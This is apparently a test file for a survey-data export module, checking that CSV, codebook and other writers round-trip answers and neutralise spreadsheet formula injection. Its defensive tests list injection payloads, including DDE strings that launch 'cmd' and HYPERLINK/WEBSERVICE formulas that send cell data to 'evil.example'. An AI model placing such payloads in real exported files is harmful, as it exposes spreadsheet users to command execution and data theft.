import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { anySubmission, anyWords, surveyWith } from '../../../test/random-submissions.ts';
import { textOf } from '../../../test/text-of.ts';
import { parentCarerEhcp, practitionerEhcp, youngPersonEhcp } from '../../content/index.ts';
import type { SubmittedAnswer } from '../../model/answer.ts';
import { askedItemsOf } from '../../model/items.ts';
import type { AskedItem } from '../../model/items.ts';
import { parse as parseValue } from '../../model/parse.ts';
import { Report } from '../../model/report.ts';
import { columnNames } from './column-names.ts';
import { columnsOf } from './columns-of.ts';
import type { SourceColumn } from './columns-of.ts';
import { csvLine } from './csv-line.ts';
import type { CsvDialect } from './csv-line.ts';
import type { Column, Row } from './dataset.ts';
import { rowOf } from './row-of.ts';
import { writeTripleSData } from './triple-s.ts';
import { writeCodebook } from './write-codebook.ts';
import { writeCsv } from './write-csv.ts';
import { writeFigures, writeFiguresMetadata } from './write-figures.ts';
import { writeJson } from './write-json.ts';

const surveys = [
  surveyWith(youngPersonEhcp, 'transport', 'preparing-for-adulthood'),
  surveyWith(parentCarerEhcp, 'short-breaks', 'complaints'),
  surveyWith(practitionerEhcp, 'workforce'),
];

/** What another program reads: rows of texts. */
function read(csv: string): string[][] {
  return parse(csv, { bom: true, relaxColumnCount: false });
}

function parseReport(text: string): Report {
  const report = parseValue(Report, JSON.parse(text));
  assert.ok(report.kind === 'ok', JSON.stringify(report));
  return report.value;
}

/** Takes off the one apostrophe that defuses a formula. */
const asWritten = (cell: string, dialect: CsvDialect): string => (dialect === 'spreadsheet' ? cell.replace(/^'/, '') : cell);

/** What a cell says of a question, in the words of a submission, by the codebook alone. */
function answerIn(item: AskedItem, row: ReadonlyMap<string, string>, columns: readonly SourceColumn[]): SubmittedAnswer {
  const own = columns.filter(({ question }) => question === item.key);
  const statusOf = (column: SourceColumn, cell: string) => column.missing.find(({ code }) => String(code) === cell)?.id;
  const status = own.map((column) => statusOf(column, row.get(column.name) ?? '')).find((found) => found !== undefined);
  if (status !== undefined) return { status } as SubmittedAnswer;
  const [first] = own;
  const cell = row.get(first?.name ?? '') ?? '';
  if (item.question.kind === 'multiple') {
    const chosen = own.flatMap(({ name }, i) => (row.get(name) === '1' ? (item.choices[i] ?? []) : []));
    return { status: 'answered', value: chosen };
  }
  if (first?.kind === 'text') return { status: 'answered', value: cell };
  if (first?.kind === 'number') return { status: 'answered', value: Number(cell) };
  return { status: 'answered', value: first?.codes.find(({ code }) => String(code) === cell)?.id ?? '' };
}

describe('a file of single answers as CSV', () => {
  for (const dialect of ['spreadsheet', 'data'] as const) {
    it(`gives another program’s reader the same answers, whatever people chose and wrote (${dialect})`, async () => {
      for (const survey of surveys) {
        const columns = columnsOf([survey], 'full');
        const property = fc.asyncProperty(fc.array(anySubmission(survey), { maxLength: 6 }), async (submissions) => {
          const rows = submissions.map((submission) => rowOf(columns, submission));
          const [heading = [], ...lines] = read(await textOf(writeCsv({ columns, rows }, { dialect })));
          assert.equal(lines.length, submissions.length);
          for (const [i, { submission }] of submissions.entries()) {
            const row = new Map(heading.map((name, column) => [name, asWritten(lines[i]?.[column] ?? '', dialect)]));
            assert.equal(row.get('submission_id'), submission.submissionId);
            for (const item of askedItemsOf(survey)) assert.deepEqual(answerIn(item, row, columns), submission.answers[item.question.id]);
          }
        });
        await fc.assert(property, { numRuns: 60 });
      }
    });
  }

  it('F50: words that a spreadsheet would run begin with an apostrophe, and are the same words without it', () => {
    const payloads = [
      ...[
        '=1+1',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|'/C notepad'!A1",
        '-2+3',
        '\t=1+1',
        '\r=1+1',
        '\n=1+1',
        ' =1+1',
        '\u00A0=1+1',
        '\uFEFF=1+1',
      ],
      ...[
        '＝1+1',
        '＋1',
        '－1',
        '＠SUM',
        '=HYPERLINK("http://evil.example?x="&A1,"Click")',
        '"=1+1"',
        "'=1+1",
        "''",
        '=1+1;=2',
        'a,b',
        'a"b',
        'a\r\nb',
      ],
      ...['\u202E=1+1', '\u200B=1+1', '\u0001=1+1', '\u00AD\u2066@SUM(1)', '﹦1+1', '﹢1', '﹣1', '﹫SUM'],
      ...['=cmd|\u0027/C calc\u0027!A0', '=DDE("cmd","/C calc","1")', '=WEBSERVICE("http://evil.example")', '+44 20 7946 0000', '-'],
      ...['مرحبا', '\u202Eabc', '🙂', ']]>', 'Shorter forms, please', ''],
    ];
    for (const words of payloads) {
      const [[cell = '?'] = []] = read(`${csvLine([words, 1], 'spreadsheet')}`);
      assert.doesNotMatch(cell.normalize('NFKC'), /^[\s\p{C}]*[=+\-@]|^[\t\r\n]/u, JSON.stringify(words));
      assert.equal(asWritten(cell, 'spreadsheet'), words);
      assert.equal(read(csvLine([words, 1], 'data'))[0]?.[0], words);
    }
  });

  it('F50: no cell of any CSV for spreadsheets can be run, whoever wrote the words in it: people, councils, or authors of questions', async () => {
    const evil = '=cmd|\u0027/C calc\u0027!A0';
    const column: Column = {
      ...{ name: 'q', label: evil, question: evil, kind: 'codes', measure: 'nominal', maxLength: 0 },
      codes: [{ code: 1, id: evil, label: `\t${evil}` }],
      missing: [{ code: -3, id: evil, label: ` ${evil}` }],
    };
    const text = readFileSync(new URL('../../../../../examples/reports/autumn-summary-302-201617.json', import.meta.url), 'utf8');
    // Every word of the report that is shown, and none that is a code.
    const harmful = parseReport(text.replaceAll(/("(?:en|name)": ?")(?=[A-Z])/g, `$1${evil} `));
    const files = [
      writeCodebook({ columns: [column] }),
      writeCsv({ columns: [column], rows: [[evil], [`\r${evil}`]] }),
      writeFigures(harmful),
      writeFiguresMetadata(harmful),
    ];
    let found = 0;
    for (const file of files)
      for (const cell of read(await textOf(file)).flat()) {
        if (/^-?\d/.test(cell)) continue;
        assert.doesNotMatch(cell, /^[\s\p{C}]*[=+\-@]/u);
        if (cell.includes(evil)) found++;
      }
    assert.ok(found > 500, `${found} cells with such words`);
  });

  it('F50: no words at all can be run, and none are changed beyond the apostrophe', () => {
    const property = fc.property(fc.array(fc.oneof(anyWords, fc.integer()), { minLength: 2, maxLength: 5 }), (cells) => {
      const [read1 = []] = read(csvLine(cells, 'spreadsheet'));
      assert.deepEqual(
        read1.map((cell, i) => (typeof cells[i] === 'number' ? Number(cell) : asWritten(cell, 'spreadsheet'))),
        cells,
      );
      for (const [i, cell] of read1.entries()) if (typeof cells[i] === 'string') assert.doesNotMatch(cell, /^\s*[=+\-@]/);
    });
    fc.assert(property, { numRuns: 2_000 });
  });

  it('has a byte order mark where Excel needs it, and none for programs', async () => {
    const start = async (dialect: CsvDialect) => (await textOf(writeCsv({ columns: [], rows: [] }, { dialect }))).charCodeAt(0);
    assert.deepEqual([await start('spreadsheet'), await start('data')], [0xfeff, 13]);
  });

  it('comes in pieces of 100,000 rows, of which none is held longer than it takes to hand it on; so does every format that has rows', async () => {
    const columns = columnsOf(surveys, 'full').slice(0, 2);
    const about = {
      title: 'Many',
      survey: 'example/many@1.0.0',
      authority: '302',
      profile: 'full',
      madeOn: '2026-11-23',
      n: 100_000,
    } as const;
    const formats = [
      (rows: Iterable<Row>) => writeCsv({ columns, rows }),
      (rows: Iterable<Row>) => writeTripleSData({ columns, rows }),
      (rows: Iterable<Row>) => writeJson({ about, columns, rows }),
    ];
    for (const write of formats) {
      let made = 0;
      const rows = function* (): Generator<Row> {
        for (; made < 100_000; made++) yield [made, 'Words of somebody'];
      };
      const pieces = write(rows());
      await pieces.next();
      await pieces.next();
      assert.ok(made < 10_000, `${made} rows were made before the first piece was handed on`);
      let lines = 0;
      for await (const piece of pieces) {
        assert.ok(piece.length < 70_000);
        lines += piece.split('\n').length - 1;
      }
      assert.ok(lines > 90_000);
      assert.equal(made, 100_000);
    }
  });
});

describe('its codebook', () => {
  it('has every column and every code, and both programs and people can read it', async () => {
    const columns = columnsOf(surveys, 'full');
    const lines: Record<string, string>[] = parse(await textOf(writeCodebook({ columns })), { bom: true, columns: true });
    assert.deepEqual(
      [...new Set(lines.map(({ name }) => name))],
      columns.map(({ name }) => name),
    );
    const codes = columns.reduce((sum, column) => sum + Math.max(1, column.codes.length + column.missing.length), 0);
    assert.ok(lines.length >= codes);
    for (const { code, meaning } of lines) if (code !== '') assert.notEqual(meaning, '');
  });
});

describe('the names of columns', () => {
  const names = columnsOf(surveys, 'full').map(({ name }) => name);

  it('are each there once, whatever is upper or lower case, and every program takes them', () => {
    assert.equal(new Set(names.map((name) => name.toLowerCase())).size, names.length);
    for (const name of names) assert.match(name, /^[A-Za-z]\w{0,63}$/);
  });

  it('stay apart where the ids are too long, or differ in what a name cannot have', () => {
    const nameOf = columnNames();
    const long = 'x'.repeat(70);
    const ids = [`${long}a`, `${long}b`, `${'x'.repeat(62)}_2`, long, 'a-b', 'a_b', 'A.B', 'Ünïcode', '2', '', '--', 'with', 'WITH', 'ALL'];
    const given = [...ids, ...Array.from({ length: 12 }, () => long)].map((id) => nameOf(id));
    assert.equal(new Set(given.map((name) => name.toLowerCase())).size, given.length);
    for (const name of given) {
      assert.match(name, /^[A-Za-z]\w{0,63}$/);
      assert.doesNotMatch(name, /^(all|and|by|eq|ge|gt|le|lt|ne|not|or|to|with)$/i);
    }
    assert.deepEqual([given[0]?.length, given[1]?.length, given.at(-1)?.length], [64, 64, 64]);
  });
});
